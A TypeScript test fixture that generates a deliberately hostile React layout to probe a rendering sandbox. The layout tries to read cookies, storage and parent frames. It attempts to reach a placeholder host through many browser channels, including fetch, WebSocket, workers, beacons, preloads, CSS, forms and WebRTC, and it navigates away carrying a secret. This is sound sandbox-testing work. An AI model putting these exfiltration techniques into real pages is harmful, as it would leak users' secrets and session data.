/**
 * A layout, as the server compiles it, that tries everything to learn or to carry away something. It submits what came of it. What it
 * tries to go to itself comes last, since that would be its end; there are several ways.
 */
export const WAYS_TO_LEAVE = [0, 1, 2, 3, 4];

export function hostileLayout(web: string, datagrams: string, way: number): string {
  return `
const way = ${way};
const found = {};
const tries = (name, attempt) => {
  try { found[name] = String(attempt()); } catch (error) { found[name] = 'throws ' + error.name; }
};
const later = [];
const waits = (name, attempt) => later.push(
  Promise.race([Promise.resolve().then(attempt), new Promise((done) => setTimeout(done, 3000, 'nobody'))]).then(
    (it) => { found[name] = 'answered by ' + it; },
    (error) => { found[name] = 'refused ' + error.name; }));

tries('origin', () => self.origin);
tries('cookie', () => document.cookie);
tries('cookie written', () => { document.cookie = 'a=b'; return document.cookie; });
tries('parent', () => window.parent.document.title);
tries('top', () => window.top.location.href);
tries('frame element', () => window.frameElement);
tries('storage', () => localStorage.length);
tries('session storage', () => sessionStorage.length);
tries('databases', () => indexedDB.open('x'));
tries('popup', () => window.open('http://${web}/popup'));
tries('peers', () => typeof RTCPeerConnection + typeof webkitRTCPeerConnection);

waits('fetch', () => fetch('http://${web}/fetch', { mode: 'no-cors' }));
waits('fetch home', () => fetch('/api/session', { credentials: 'include' }));
waits('import', () => import('http://${web}/import.js'));
waits('request', () => new Promise((done, fail) => {
  const request = new XMLHttpRequest();
  request.onload = done;
  request.onerror = () => fail(new Error());
  request.open('GET', 'http://${web}/request');
  request.send();
}));
waits('socket', () => new Promise((done, fail) => {
  const socket = new WebSocket('ws://${web}/socket');
  socket.onopen = done;
  socket.onerror = () => fail(new Error());
}));
waits('events', () => new Promise((done, fail) => {
  const events = new EventSource('http://${web}/events');
  events.onopen = done;
  events.onerror = () => { events.close(); fail(new Error()); };
}));
waits('worker', () => new Promise((done, fail) => {
  const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://${web}/worker')"])));
  worker.onmessage = done;
  worker.onerror = () => fail(new Error());
}));
tries('beacon', () => { navigator.sendBeacon('http://${web}/beacon', 'x'); return 'asked'; });

const put = (name, fields) => {
  const made = Object.assign(document.createElement(name), fields);
  document.body.append(made);
  return made;
};
tries('image', () => put('img', { src: 'http://${web}/image' }));
tries('picture set', () => put('img', { srcset: 'http://${web}/set 2x' }));
tries('video', () => put('video', { src: 'http://${web}/video', poster: 'http://${web}/poster' }));
tries('audio', () => put('audio', { src: 'http://${web}/audio' }));
tries('script', () => put('script', { src: 'http://${web}/script' }));
tries('object', () => put('object', { data: 'http://${web}/object' }));
tries('embed', () => put('embed', { src: 'http://${web}/embed' }));
tries('inner frame', () => put('iframe', { src: 'http://${web}/frame' }));
tries('inner peers', () => {
  const inner = put('iframe', {});
  return typeof inner.contentWindow.RTCPeerConnection;
});
for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
  tries('link ' + rel, () => put('link', { rel, href: 'http://${web}/' + rel }));
}
for (const as of ['image', 'script', 'font', 'fetch']) {
  tries('preload ' + as, () => put('link', { rel: 'preload', as, href: 'http://${web}/preload-' + as }));
}
tries('rules', () => put('script', {
  type: 'speculationrules',
  textContent: '{"prefetch":[{"source":"list","urls":["http://${web}/rules"]}]}',
}));
tries('style', () => put('style', {
  textContent: '@import url(http://${web}/css); @font-face { font-family: x; src: url(http://${web}/font) }'
    + 'body { background: url(http://${web}/ground); font-family: x }',
}));
tries('ping', () => put('a', { href: '#x', ping: 'http://${web}/ping' }).click());
tries('link to the top', () => put('a', { href: 'http://${web}/top', target: '_top' }).click());
tries('link to a new page', () => put('a', { href: 'http://${web}/blank', target: '_blank' }).click());
tries('form', () => put('form', { action: 'http://${web}/form', method: 'post' }).requestSubmit());
tries('datagrams', () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${datagrams}' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});

const React = require('react');
exports.default = function Layout({ values, onSubmit }) {
  React.useEffect(() => {
    Promise.all(later).then(() => {
      onSubmit({ found, secret: values.secret });
      setTimeout(leaves[way], 1000);
    });
  }, []);
  return React.createElement('p', null, 'Nothing to see');
};
const leaves = [
  () => put('a', { href: 'http://${web}/download?secret', download: 'x' }).click(),
  () => put('a', { href: 'http://${web}/click?secret' }).click(),
  () => put('meta', { httpEquiv: 'refresh', content: '0;url=http://${web}/refresh?secret' }),
  () => put('form', { action: 'http://${web}/form?secret', method: 'post' }).submit(),
  () => { location.href = 'http://${web}/leave?secret'; },
];
`;
}
